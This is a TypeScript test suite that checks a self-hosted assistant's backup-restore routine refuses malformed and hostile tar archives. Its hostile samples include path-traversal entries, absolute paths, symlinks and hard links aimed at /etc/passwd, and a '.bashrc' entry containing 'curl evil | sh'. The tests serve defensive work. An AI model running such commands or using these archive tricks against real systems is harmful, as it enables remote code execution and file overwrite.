import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { lockDataDir } from '../data-dir-lock';
import { restoreSelfHost } from './restore';
import { BLOCK, encodeHeader, encodePaxRecords, paddingAfter, TYPE } from './tar-format';

/** One entry of a hand-made archive: any path and type, as an attacker would write them. */
interface RawEntry {
  path: string;
  type?: string;
  content?: string | Buffer;
}

const DATABASE = Buffer.from('SQLite format 3\0 (stands in for a database: restore copies it as it is)');

function manifest(overrides: Record<string, unknown> = {}): string {
  return JSON.stringify({
    format: 'assistant-backup',
    format_version: 1,
    server_version: '0.1.0',
    created_at: '2025-06-01T10:00:00.000Z',
    contents: {
      database: {
        entry: 'assistant.sqlite',
        taken_at: '2025-06-01T10:00:00.000Z',
        bytes: DATABASE.length,
        sha256: createHash('sha256').update(DATABASE).digest('hex'),
      },
      secrets_key: true,
      credentials: false,
      tools: { files: 0, bytes: 0 },
      files: { files: 0, bytes: 0 },
    },
    ...overrides,
  });
}

/** A gzip-compressed tar of `entries`, headers written one by one (a pax record for a long path). */
function archiveOf(entries: RawEntry[]): Buffer {
  const blocks: Buffer[] = [];
  for (const { path, type = TYPE.file, content = '' } of entries) {
    const body = Buffer.from(content);
    if (Buffer.byteLength(path) > 100) {
      const pax = encodePaxRecords({ path });
      blocks.push(
        encodeHeader({
          name: 'PaxHeader',
          type: TYPE.paxHeader,
          size: pax.length,
          mode: 0o600,
          mtime: new Date(),
        }),
      );
      blocks.push(pax, Buffer.alloc(paddingAfter(pax.length)));
    }
    const header = encodeHeader({
      name: path.slice(0, 100),
      type,
      size: body.length,
      mode: 0o600,
      mtime: new Date(),
    });
    if (type === '1' || type === '2') header.write('/etc/passwd', 157, 100, 'utf8');
    if (type === '1' || type === '2') reseal(header);
    blocks.push(header, body, Buffer.alloc(paddingAfter(body.length)));
  }
  blocks.push(Buffer.alloc(2 * BLOCK));
  return gzipSync(Buffer.concat(blocks));
}

/** Recomputes a header's checksum after a field was changed by hand. */
function reseal(header: Buffer): void {
  header.fill(0x20, 148, 156);
  let sum = 0;
  for (const byte of header) sum += byte;
  header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 8, 'latin1');
}

const valid = (...more: RawEntry[]): RawEntry[] => [
  { path: 'manifest.json', content: manifest() },
  { path: 'assistant.sqlite', content: DATABASE },
  { path: 'secrets.key', content: 'a2V5\n' },
  ...more,
];

describe('restoreSelfHost refuses', () => {
  let scratch: string;
  let dataDir: string;
  beforeEach(() => {
    scratch = mkdtempSync(join(tmpdir(), 'assistant-restore-'));
    dataDir = join(scratch, 'deep', 'data');
  });
  afterEach(() => rmSync(scratch, { recursive: true, force: true }));

  function write(name: string, entries: RawEntry[]): string {
    const file = join(scratch, name);
    writeFileSync(file, archiveOf(entries));
    return file;
  }

  /** What the data directory holds, without the lock's own files (a refused restore may leave the lock file). */
  function dataLeft(): string[] {
    if (!existsSync(dataDir)) return [];
    return readdirSync(dataDir).filter(
      (name) => !['server.lock', 'server.lock-journal', 'server.pid'].includes(name),
    );
  }

  it('nothing when the archive is good (the baseline of the refusals below)', async () => {
    await restoreSelfHost(
      write('good.tar.gz', valid({ path: 'files/usr_1/a.txt', content: 'a' })),
      { dataDir },
      {},
    );
    expect(dataLeft().sort()).toEqual(['assistant.sqlite', 'files', 'secrets.key']);
  });

  it('a data directory that holds anything, naming what is there, and changes nothing', async () => {
    mkdirSync(dataDir, { recursive: true });
    writeFileSync(join(dataDir, 'assistant.sqlite'), 'the data of another installation');
    writeFileSync(join(dataDir, 'notes.txt'), '');
    await expect(restoreSelfHost(write('good.tar.gz', valid()), { dataDir }, {})).rejects.toThrow(
      `${dataDir} is not empty (it holds assistant.sqlite, notes.txt): restore only into an empty or new data directory`,
    );
    expect(readdirSync(dataDir).sort()).toEqual(['assistant.sqlite', 'notes.txt']);
  });

  it('a data directory that a running server uses', async () => {
    mkdirSync(dataDir, { recursive: true });
    const server = lockDataDir(dataDir);
    try {
      await expect(restoreSelfHost(write('good.tar.gz', valid()), { dataDir }, {})).rejects.toThrow(
        `a server is running on ${dataDir}: stop it first`,
      );
    } finally {
      server.release();
    }
    expect(dataLeft()).toEqual([]);
  });

  it('an archive of an unknown format version, naming the version that wrote it, before writing anything', async () => {
    const newer = write('newer.tar.gz', [
      { path: 'manifest.json', content: manifest({ format_version: 2, server_version: '9.0.0' }) },
      { path: 'assistant.sqlite', content: DATABASE },
    ]);
    await expect(restoreSelfHost(newer, { dataDir }, {})).rejects.toThrow(
      /is a backup of format version 2 \(written by Assistant 9\.0\.0\); this Assistant \(\S+\) restores format version 1/,
    );
    expect(existsSync(dataDir)).toBe(false);
  });

  it.each([
    [
      'a file that is no archive',
      () => Buffer.from('just some text'),
      /is not a readable backup: it is not gzip-compressed/,
    ],
    [
      'a tar without a manifest first',
      () => archiveOf([{ path: 'assistant.sqlite', content: DATABASE }]),
      /does not begin with manifest\.json/,
    ],
    [
      'a manifest of another program',
      () => archiveOf([{ path: 'manifest.json', content: '{"format":"other"}' }]),
      /is not one of ours/,
    ],
    ['an archive cut short', () => archiveOf(valid()).subarray(0, 60), /not a readable backup|not gzip/],
  ])('%s', async (_name, bytes, message) => {
    const file = join(scratch, 'bad.tar.gz');
    writeFileSync(file, bytes());
    await expect(restoreSelfHost(file, { dataDir }, {})).rejects.toThrow(message);
    expect(dataLeft()).toEqual([]);
  });

  // The hostile archives of boundary B7 (input ↔ process) and B9 (nothing of the machine read or overwritten):
  // each must be refused with nothing written, neither inside the data directory nor beside it.
  it.each<[string, RawEntry[], RegExp]>([
    [
      'a path out of the directory with ..',
      [{ path: '../../escaped.txt', content: 'x' }],
      /"\.\.\/\.\.\/escaped\.txt" is not a plain path/,
    ],
    [
      'a .. inside an allowed folder',
      [{ path: 'files/../../../escaped.txt', content: 'x' }],
      /is not a plain path inside the data directory/,
    ],
    ['an absolute path', [{ path: `${'/tmp'}/escaped.txt`, content: 'x' }], /is an absolute path/],
    ['a Windows drive path', [{ path: 'C:/escaped.txt', content: 'x' }], /is an absolute path/],
    [
      'a backslash path',
      [{ path: 'files\\..\\..\\escaped.txt', content: 'x' }],
      /has a character no backup writes/,
    ],
    [
      'a symbolic link',
      [
        { path: 'files/usr_1/link', type: '2' },
        { path: 'files/usr_1/link/escaped.txt', content: 'x' },
      ],
      /is a symbolic link; a backup holds only files and folders/,
    ],
    ['a hard link', [{ path: 'files/usr_1/passwd', type: '1' }], /is a hard link/],
    ['a FIFO', [{ path: 'files/usr_1/fifo', type: '6' }], /is a FIFO/],
    [
      'a name no data directory has',
      [{ path: '.bashrc', content: 'curl evil | sh' }],
      /is not part of an Assistant data directory/,
    ],
    ['the lock file', [{ path: 'server.lock', content: '' }], /is not part of an Assistant data directory/],
    [
      'a second manifest',
      [{ path: 'manifest.json', content: manifest() }],
      /is not part of an Assistant data directory/,
    ],
    [
      'a long path with .. (pax)',
      [
        {
          path: `files/${'a/'.repeat(60)}../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../escaped.txt`,
          content: 'x',
        },
      ],
      /is not a plain path/,
    ],
    [
      'one file twice',
      [
        { path: 'files/usr_1/a.txt', content: 'a' },
        { path: 'files/usr_1/a.txt', content: 'b' },
      ],
      /appears twice, or as both a file and a folder/,
    ],
    [
      'a file where a folder is',
      [
        { path: 'files/usr_1', content: 'a' },
        { path: 'files/usr_1/a.txt', content: 'b' },
      ],
      /appears twice, or as both a file and a folder/,
    ],
  ])('%s', async (_name, hostile, message) => {
    await expect(
      restoreSelfHost(write('hostile.tar.gz', valid(...hostile)), { dataDir }, {}),
    ).rejects.toThrow(message);
    expect(dataLeft()).toEqual([]);
    expect(existsSync(join(scratch, 'escaped.txt'))).toBe(false);
    expect(existsSync(join(scratch, 'deep', 'escaped.txt'))).toBe(false);
    expect(existsSync('/tmp/escaped.txt')).toBe(false);
  });

  it('an archive without a database, or whose database does not match its digest', async () => {
    const withoutDatabase = write('no-db.tar.gz', [{ path: 'manifest.json', content: manifest() }]);
    await expect(restoreSelfHost(withoutDatabase, { dataDir }, {})).rejects.toThrow(
      /holds no database \(assistant\.sqlite\)/,
    );
    const tampered = write('tampered.tar.gz', [
      { path: 'manifest.json', content: manifest() },
      { path: 'assistant.sqlite', content: Buffer.concat([DATABASE, Buffer.from('!')]) },
    ]);
    await expect(restoreSelfHost(tampered, { dataDir }, {})).rejects.toThrow(/its database is damaged/);
    expect(dataLeft()).toEqual([]);
  });
});
